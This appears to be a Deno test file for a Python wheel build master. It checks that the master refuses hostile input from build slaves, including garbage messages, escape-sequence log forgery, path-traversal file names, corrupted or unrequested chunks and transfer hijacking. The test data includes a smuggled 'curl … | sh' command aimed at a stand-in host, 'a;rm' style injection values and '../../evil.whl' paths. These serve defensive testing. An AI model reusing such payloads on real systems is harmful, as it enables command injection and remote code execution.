/**
 * piw-master against misbehaving slaves: garbage, unknown and out-of-sequence messages, file
 * names that are paths, a corrupted transfer, chunks out of order, a slave holding back a file's
 * first chunk, and a slave vanishing mid-transfer. Throughout, a well-behaved slave keeps being
 * served, and nothing unverified is ever published.
 */

import { assert, assertEquals } from "../assert.ts";
import { Duration } from "../../shared/duration.ts";
import { type CborValue, encode } from "../../shared/cbor.ts";
import { Dealer, Request } from "../../shared/zmq/mod.ts";
import { eventually, startFarm } from "../farm.ts";
import { TestSlave } from "../fixtures/test_slave.ts";
import { makeWheel, type TestWheel } from "../fixtures/wheel.ts";
import { BUDGET, WINDOW } from "../../master/tasks/file_juggler.ts";
import { IN_MEMORY } from "../../master/incoming_file.ts";
import { TransferState } from "../../shared/states.ts";
import { metricValue, parseMetrics } from "../fixtures/metrics.ts";

function tempFiles(dir: string): string[] {
  try {
    return [...Deno.readDirSync(dir)].map((e) => e.name).filter((n) => n.startsWith(".transfer-"));
  } catch {
    return [];
  }
}

const decoder = new TextDecoder();

Deno.test("master: bad input from slaves is refused and the farm carries on", async (t) => {
  await using farm = await startFarm();
  const { pypi, master } = farm;
  const port = Number(master.slaveQueue.split(":").at(-1));

  /** Says HELLO and IDLE, and returns the package it is given to build (any will do). */
  const build = async (s: TestSlave): Promise<string> => {
    assertEquals((await s.hello()).msg, "ACK");
    const reply = await s.request("IDLE");
    assertEquals(reply.msg, "BUILD");
    return reply.msg === "BUILD" ? reply.data[0] : "";
  };

  await t.step("garbage bytes on the slave port close that connection only", async () => {
    const conn = await Deno.connect({ hostname: "127.0.0.1", port });
    await conn.write(new TextEncoder().encode("GET / HTTP/1.1\r\n\r\n".repeat(100)));
    await conn.write(crypto.getRandomValues(new Uint8Array(4096)));
    const buf = new Uint8Array(1024);
    while ((await conn.read(buf).catch(() => null)) !== null) { /* until the master hangs up */ }
    conn.close();
  });

  await t.step(
    "a message that is not CBOR, from a slave nobody knows, goes unanswered",
    async () => {
      const req = new Request({ receiveTimeout: 1500, linger: 0 });
      req.connect(master.slaveQueue);
      await req.send(new Uint8Array([0xff, 0x00, 0x13]));
      let answered = true;
      await req.receive().catch(() => (answered = false));
      assert(!answered, "an unknown peer's garbage gets no reply");
      await req.close();
    },
  );

  await t.step("a flood of junk makes a line of log a second, not one a message", async () => {
    // one-frame junk made a line each: 57,150 lines from 600 KB
    const before = master.stderr.match(/dropped a message that is not/g)?.length ?? 0;
    const junk = new Dealer({ linger: 5000 });
    junk.connect(master.slaveQueue);
    for (let i = 0; i < 2000; i++) await junk.send([`junk ${i}`]);
    await junk.close();
    await master.waitForLog(/dropped a message that is not/);
    await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "after-junk");
    assertEquals((await s.hello()).msg, "ACK");
    const lines = (master.stderr.match(/dropped a message that is not/g)?.length ?? 0) - before;
    assert(lines >= 1 && lines <= 10, `${lines} lines for 2,000 messages`);
  });

  await t.step("unknown messages and out-of-sequence messages get DIE", async () => {
    await using a = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "unknown-msg");
    await a.hello();
    assertEquals((await a.request(encode(["FROBNICATE", 1]))).msg, "DIE");
    await using b = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "out-of-order");
    await b.hello();
    assertEquals((await b.request("SENT")).msg, "DIE");
    await using c = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "built-unasked");
    await c.hello();
    assertEquals((await c.request("BUILT", [true, Duration.ZERO, "", []])).msg, "DIE");
    await using d = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "data-on-idle");
    await d.hello();
    assertEquals((await d.request(encode(["IDLE", 1]))).msg, "DIE");
  });

  await t.step(
    "what a peer said reaches the log with no escape sequence or line of its own",
    async () => {
      // the name of an unknown message is quoted in the warning: it used to be written as sent,
      // retitling and clearing the operator's terminal and forging a line of the log
      await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "escapist");
      await s.hello();
      const name = "\x1b]2;OWNED\x07\x1b[2J\nslave_driver: info: forged line";
      assertEquals((await s.request(encode([name, 1, 2]))).msg, "DIE");
      await master.waitForLog(/OWNED/);
      assert(!master.stderr.includes("\x1b"), "an ESC reached the log");
      assert(!/^slave_driver: info: forged line/m.test(master.stderr), "a line was forged");
    },
  );

  await t.step(
    "file names that are paths, NUL-laden or huge: logged as failed, and nothing is written",
    async () => {
      for (
        const [i, name] of [
          "../../evil.whl",
          "a/b-1.0-py3-none-any.whl",
          "x\0-1.0-py3-none-any.whl",
          `${"x".repeat(10 * 1024)}-1.0-py3-none-any.whl`,
        ].entries()
      ) {
        await pypi.release(`pathological${i}`, "1.0");
        await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", `paths-${i}`);
        const pkg = await build(s);
        const built = encode(["BUILT", [true, Duration.ZERO, "", [[
          name,
          10,
          "0".repeat(64),
          "x",
          "1.0",
          "py3",
          "none",
          "any",
          {},
        ]]]]);
        // a BUILT the protocol refuses is the build's own doing: any slave's would be the same
        assertEquals((await s.request(built)).msg, "DONE");
        await master.waitForLog(
          new RegExp(`refused its build of ${pkg} 1\\.0: its BUILT cannot be taken`),
        );
      }
      for (const dir of [master.dir, master.output, `${master.output}/simple`]) {
        const names = [...Deno.readDirSync(dir)].map((e) => e.name);
        assert(!names.includes("evil.whl"), `${dir} holds evil.whl`);
      }
    },
  );

  await t.step(
    "dependencies that are no Debian package names: logged as failed; the page offers only names",
    async () => {
      // the project page offers them as a command to paste: `sudo apt install …`
      const deps = (apt: string[]) => {
        const w = makeWheel("apt-names", "1.0");
        return [w, [[w.filename, w.bytes.length, w.sha256, ...w.tags, { apt }]]] as const;
      };
      for (const [i, evil] of ["x\ncurl -s http://evil.example/p | sh", "a;rm", "-y"].entries()) {
        await pypi.release("apt-names", `0.${i}`);
        await master.waitForFile("project/apt-names/json/index.json", `"0.${i}"`);
        await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", `apt-${i}`);
        assertEquals((await s.hello()).msg, "ACK");
        assertEquals(await s.request("IDLE"), { msg: "BUILD", data: ["apt-names", `0.${i}`] });
        const [, files] = deps(["libc6", evil]);
        // encoded by hand: our own encoder refuses them before they are sent
        const built = encode(["BUILT", [true, Duration.ZERO, "", files as unknown as CborValue]]);
        assertEquals((await s.request(built)).msg, "DONE");
        await master.waitForLog(
          new RegExp(
            `apt-names 0\\.${i}: its BUILT cannot be taken: .*expected Debian package names, not`,
          ),
        );
      }
      await pypi.release("apt-names", "1.0");
      await master.waitForFile("project/apt-names/json/index.json", '"1.0"');
      await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "apt-good");
      assertEquals((await s.hello()).msg, "ACK");
      assertEquals(await s.request("IDLE"), { msg: "BUILD", data: ["apt-names", "1.0"] });
      const [wheel, files] = deps(["libc6", "libssl3:armhf", "libstdc++6"]);
      let reply = await s.request("BUILT", [true, Duration.ZERO, "", files]);
      assertEquals(reply, { msg: "SEND", data: wheel.filename });
      await s.transfer(wheel.bytes);
      reply = await s.request("SENT");
      assertEquals(reply, { msg: "DONE" });
      const page = await master.waitForFile("project/apt-names/index.html", "sudo apt install");
      assert(
        page.includes("<pre>sudo apt install libc6 libssl3:armhf libstdc++6</pre>"),
        page.match(/.*apt install.*/)?.[0],
      );
    },
  );

  await t.step(
    "a transfer whose hash mismatches is asked for again; only the good copy is published",
    async () => {
      await pypi.release("corrupted", "1.0");
      await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "corrupter");
      const pkg = await build(s);
      const wheel = makeWheel(pkg, "1.0");
      const files = [[wheel.filename, wheel.bytes.length, wheel.sha256, ...wheel.tags, {}]];
      assertEquals(await s.request("BUILT", [true, Duration.of({ seconds: 2 }), "log", files]), {
        msg: "SEND",
        data: wheel.filename,
      });
      await s.transfer(wheel.bytes, { corrupt: true });
      assertEquals(
        await s.request("SENT"),
        { msg: "SEND", data: wheel.filename },
        "a bad copy is asked for again",
      );
      let published = true;
      await Deno.stat(`${master.output}/simple/${pkg}/${wheel.filename}`).catch(
        () => (published = false),
      );
      assert(!published, "nothing is published before a good copy arrives");
      await s.transfer(wheel.bytes);
      assertEquals(await s.request("SENT"), { msg: "DONE" });
      await master.waitForFile(`simple/${pkg}/index.html`, wheel.sha256);
      assertEquals(
        await Deno.readFile(`${master.output}/simple/${pkg}/${wheel.filename}`),
        wheel.bytes,
      );
    },
  );

  await t.step(
    "a slave vanishing mid-transfer leaves no temporary file and publishes nothing",
    async () => {
      await pypi.release("vanished", "1.0");
      const s = new TestSlave(
        master.slaveQueue,
        master.fileQueue,
        "cp311",
        "vanisher",
        Duration.of({ seconds: 1 }),
      );
      const pkg = await build(s);
      const wheel = makeWheel(pkg, "1.0", { padding: 2_000_000 }); // over IN_MEMORY: a temporary file
      const files = [[wheel.filename, wheel.bytes.length, wheel.sha256, ...wheel.tags, {}]];
      assertEquals((await s.request("BUILT", [true, Duration.ZERO, "", files])).msg, "SEND");
      await s.files.send(["HELLO", String(s.slaveId)]);
      const [command, offset] = await s.files.receive();
      assertEquals(new TextDecoder().decode(command), "FETCH");
      await s.files.send(["CHUNK", offset!, wheel.bytes.slice(0, 65536)]);
      await eventually(
        "the transfer is under way",
        () => Promise.resolve(tempFiles(`${master.output}/simple`).length === 1),
      );
      await s.close();
      await master.waitForLog(/slave \d+ \(vanisher\) went away/, 20_000);
      for (let i = 0; i < 100 && (tempFiles(`${master.output}/simple`)).length; i++) {
        await new Promise((r) => setTimeout(r, 100));
      }
      assertEquals(tempFiles(`${master.output}/simple`), []);
      let published = true;
      await Deno.stat(`${master.output}/simple/${pkg}/${wheel.filename}`).catch(
        () => (published = false),
      );
      assert(!published);
    },
  );

  await t.step(
    "chunks in order or not make the exact file, whether it is held in memory or not",
    async () => {
      // 3.5 MB: a temporary file, its first chunk sent last (the rest wait to be hashed while
      // further chunks arrive); 9 MB in order: each chunk's memory is read into again while
      // later ones come; 0.9 MB: in memory, one chunk
      const cases = [[3_500_000, true], [9_000_000, false], [900_000, true]] as const;
      for (const [padding, firstLast] of cases) {
        await pypi.release(`chunky-${padding}`, "1.0");
        await using s = new TestSlave(
          master.slaveQueue,
          master.fileQueue,
          "cp311",
          `late-first-${padding}`,
        );
        const pkg = await build(s);
        const wheel = makeWheel(pkg, "1.0", { padding });
        const files = [[wheel.filename, wheel.bytes.length, wheel.sha256, ...wheel.tags, {}]];
        assertEquals(
          (await s.request("BUILT", [true, Duration.of({ seconds: 1 }), "", files])).msg,
          "SEND",
        );
        await s.transfer(wheel.bytes, { firstLast });
        assertEquals(await s.request("SENT"), { msg: "DONE" });
        assertEquals(
          await Deno.readFile(`${master.output}/simple/${pkg}/${wheel.filename}`),
          wheel.bytes,
        );
      }
    },
  );

  await t.step(
    "a slave holding back a file's first chunk gets no more asked of it than one transfer's window",
    async () => {
      // every chunk after the first waits on the writing thread to be hashed in order: the
      // master must stop asking once they fill the transfer's window (it used to ask for the
      // whole file, holding up to 2 GiB of it in memory, then for all of the 64 MiB budget for
      // all transfers), and still serve a well-behaved slave meanwhile
      await pypi.release("hoarded", "1.0");
      await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "hoarder");
      const pkg = await build(s);
      const wheel = makeWheel(pkg, "1.0");
      const declared = 200 * 1024 * 1024;
      const files = [[wheel.filename, declared, wheel.sha256, ...wheel.tags, {}]];
      assertEquals((await s.request("BUILT", [true, Duration.ZERO, "", files])).msg, "SEND");
      await s.files.send(["HELLO", String(s.slaveId)]);
      const decoder = new TextDecoder();
      const zeros = new Uint8Array(1024 * 1024);
      let answered = 0;
      for (;;) {
        const [command, offset, length] = await s.files.receive();
        assertEquals(decoder.decode(command), "FETCH");
        const at = Number(decoder.decode(offset));
        const n = Number(decoder.decode(length));
        // asked again for the first chunk: only after a silence, once nothing more was asked
        if (at === 0 && answered > 0) break;
        if (at === 0) continue;
        await s.files.send(["CHUNK", offset!, zeros.subarray(0, n)]);
        answered += n;
      }
      assert(answered <= WINDOW, `${answered} bytes asked for`);
      await pypi.release("unhindered", "1.0");
      await using good = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "unhindered");
      const other = await build(good);
      const large = makeWheel(other, "1.0", { padding: 3_000_000 });
      assertEquals(await good.deliver([large]), { msg: "DONE" });
      assertEquals(
        await Deno.readFile(`${master.output}/simple/${other}/${large.filename}`),
        large.bytes,
      );
    },
  );

  /** The master's resident memory (all its threads), in bytes. */
  const rss = () =>
    Number(
      /VmRSS:\s+(\d+) kB/.exec(Deno.readTextFileSync(`/proc/${master.process.pid}/status`))![1],
    ) * 1024;

  /** A FETCH as the slave received it: its offset frame, offset and length. */
  type Fetch = [Uint8Array, number, number];

  /** BUILT for one wheel, and the file queue's first FETCHes on the slave's DEALER. */
  const sending = async (s: TestSlave, wheel: TestWheel, fetches: number) => {
    const files = [[wheel.filename, wheel.bytes.length, wheel.sha256, ...wheel.tags, {}]];
    assertEquals((await s.request("BUILT", [true, Duration.ZERO, "", files])).msg, "SEND");
    await s.files.send(["HELLO", String(s.slaveId)]);
    const asked: Fetch[] = [];
    while (asked.length < fetches) {
      const [command, offset, length] = await s.files.receive();
      assertEquals(decoder.decode(command), "FETCH");
      asked.push([offset!, Number(decoder.decode(offset)), Number(decoder.decode(length))]);
    }
    return asked;
  };

  /** Answers one FETCH with its bytes of `wheel`. */
  const chunk = (s: TestSlave, wheel: TestWheel, [frame, at, n]: Fetch) =>
    s.files.send(["CHUNK", frame, wheel.bytes.subarray(at, at + n)]);

  /** Answers each of `asked` with its bytes of `wheel`, then waits for the file queue's DONE. */
  const answer = async (s: TestSlave, wheel: TestWheel, asked: Fetch[]) => {
    for (const fetch of asked) await chunk(s, wheel, fetch);
    for (;;) {
      const [command] = await s.files.receive();
      if (decoder.decode(command) === "DONE") return;
    }
  };

  /** SENT: DONE, and the file published under `pkg` is `wheel`, byte for byte. */
  const published = async (s: TestSlave, pkg: string, wheel: TestWheel) => {
    assertEquals(await s.request("SENT"), { msg: "DONE" });
    assertEquals(
      await Deno.readFile(`${master.output}/simple/${pkg}/${wheel.filename}`),
      wheel.bytes,
    );
  };

  await t.step("chunks no FETCH asked for are neither kept nor written", async () => {
    // 300 MiB of chunks inside a 3 MB file, none where a FETCH asked: the master used to take
    // each (its bytes written where they said, and kept until the bytes before them were hashed)
    await pypi.release("unasked", "1.0");
    await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "unasked");
    const pkg = await build(s);
    const wheel = makeWheel(pkg, "1.0", { padding: 3_000_000 });
    const asked = await sending(s, wheel, 3);
    const before = rss();
    const junk = new Uint8Array(1024 * 1024).fill(0x55);
    for (let at = 1; at <= 300; at++) await s.files.send(["CHUNK", String(at), junk]);
    // a HELLO after them on the same connection: its FETCHes come once they were all taken
    await s.files.send(["HELLO", String(s.slaveId)]);
    await s.files.receive();
    const grown = rss() - before;
    assert(grown < 100 * 1024 * 1024, `the master grew by ${grown} bytes`);
    await answer(s, wheel, asked);
    await published(s, pkg, wheel);
  });

  await t.step("a chunk sent again once its bytes were hashed changes nothing", async () => {
    // a small wheel (in memory) and a large one (a temporary file): each chunk answered, then
    // the first one again with other bytes, before SENT. The file published used to be the
    // second bytes, under the first bytes' hash
    for (const padding of [0, 2_000_000]) {
      await pypi.release(`again-${padding}`, "1.0");
      await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "again");
      const pkg = await build(s);
      const wheel = makeWheel(pkg, "1.0", { padding });
      const fetches = Math.ceil(wheel.bytes.length / (1024 * 1024));
      await answer(s, wheel, await sending(s, wheel, fetches));
      const forged = wheel.bytes.slice(0, 1024 * 1024).fill(0x66, 100);
      await s.files.send(["CHUNK", "0", forged]);
      await s.files.send(["HELLO", String(s.slaveId)]); // answered once the CHUNK was taken
      assertEquals(decoder.decode((await s.files.receive())[0]), "DONE");
      await published(s, pkg, wheel);
    }
  });

  await t.step("another connection cannot take over a transfer going on", async () => {
    await pypi.release("hijacked", "1.0");
    await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "hijacked");
    const pkg = await build(s);
    const wheel = makeWheel(pkg, "1.0", { padding: 3_000_000 });
    const [first, ...rest] = await sending(s, wheel, 3);
    await chunk(s, wheel, first!);
    const thief = new Dealer({ linger: 0 });
    thief.connect(master.fileQueue);
    await thief.send(["HELLO", String(s.slaveId)]);
    await master.waitForLog(new RegExp(`ignored HELLO for slave ${s.slaveId} from another`));
    await thief.close();
    await answer(s, wheel, rest);
    await published(s, pkg, wheel);
  });

  await t.step("a slave's new connection takes its transfer over after a silence", async () => {
    // a slave whose connection broke says HELLO again from a new one after 5 s of silence
    await pypi.release("reconnected", "1.0");
    await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "reconnected");
    const pkg = await build(s);
    const wheel = makeWheel(pkg, "1.0", { padding: 3_000_000 });
    const [first] = await sending(s, wheel, 3);
    await chunk(s, wheel, first!);
    await s.files.close();
    const files = new Dealer({ receiveTimeout: 1_000, linger: 0 });
    files.connect(master.fileQueue);
    try {
      let fetch: Uint8Array[] | null = null;
      for (let i = 0; !fetch; i++) {
        assert(i < 60, "the new connection was never asked for anything");
        await files.send(["HELLO", String(s.slaveId)]);
        fetch = await files.receive().catch(() => null);
      }
      for (;;) {
        const [command, offset, length] = fetch;
        if (decoder.decode(command) === "DONE") break;
        const at = Number(decoder.decode(offset));
        const n = Number(decoder.decode(length));
        await files.send(["CHUNK", offset!, wheel.bytes.subarray(at, at + n)]);
        fetch = await files.receive();
      }
    } finally {
      await files.close();
    }
    await published(s, pkg, wheel);
  });

  await t.step("well-behaved slaves are served after all that, until nothing is left", async () => {
    await pypi.release("survivor", "1.0");
    const built: string[] = [];
    for (let i = 0; !built.includes("survivor"); i++) {
      assert(i < 10, `the survivor was never built; built ${built}`);
      await using good = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", `good-${i}`);
      const pkg = await build(good);
      built.push(pkg);
      const wheel = makeWheel(pkg, "1.0");
      assertEquals(await good.deliver([wheel]), { msg: "DONE" });
      await master.waitForFile(`simple/${pkg}/index.html`, wheel.filename);
    }
  });

  assertEquals((await master.stop()).code, 0);
});

Deno.test("master: a build's small files, held until it is published, fit in the transfer budget", async () => {
  // each file of at most 1 MiB was received into memory and held there until its build was
  // published, however many a build named (up to 1,000): a slave that never sends its last file
  // kept a GiB in the master for as long as its timeout
  await using farm = await startFarm({ metrics: true });
  const { pypi, master } = farm;
  await pypi.release("many-small", "1.0");
  await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "many-small");
  assertEquals((await s.hello()).msg, "ACK");
  assertEquals(await s.request("IDLE"), { msg: "BUILD", data: ["many-small", "1.0"] });
  const wheels = Array.from(
    { length: 100 },
    (_, i) => makeWheel("many-small", "1.0", { platform: `p${i}`, padding: 1_000_000 }),
  );
  assert(wheels.every((w) => w.bytes.length <= IN_MEMORY), "each would be received in memory");
  const tuples = wheels.map((w) => [w.filename, w.bytes.length, w.sha256, ...w.tags, {}]);
  let reply = await s.request("BUILT", [true, Duration.ZERO, "", tuples]);
  for (let i = 0; i < wheels.length - 1; i++) {
    assertEquals(reply.msg, "SEND");
    await s.transfer(wheels.find((w) => w.filename === reply.data)!.bytes);
    reply = await s.request("SENT");
  }
  // 99 verified, about 95 MiB: what the budget counts (what is held in memory) stays within it
  const verified = Date.now();
  let used: number | undefined;
  await eventually("the metrics are written", async () => {
    const written = await Deno.stat(master.metricsFile!).then((i) => i.mtime, () => null);
    if (!written || written.getTime() <= verified) return false;
    used = metricValue(
      await parseMetrics(master.metricsFile!),
      "piwheels_transfer_budget_used_bytes",
    );
    return used !== undefined;
  });
  // besides, by BUDGET's rule, a transfer whose nothing is in flight may always ask for one
  // chunk: the figure may be from while a file received on disk was coming (one in four runs)
  const bound = BUDGET + TransferState.CHUNK_SIZE;
  assert(used! <= bound, `${used} bytes are held, over the budget of ${BUDGET} and one chunk`);
  // and every file is published as it came, those held in memory and those on disk
  assertEquals(reply.msg, "SEND");
  await s.transfer(wheels.find((w) => w.filename === reply.data)!.bytes);
  assertEquals(await s.request("SENT"), { msg: "DONE" });
  for (const w of wheels) {
    assertEquals(await Deno.readFile(`${master.output}/simple/many-small/${w.filename}`), w.bytes);
  }
});
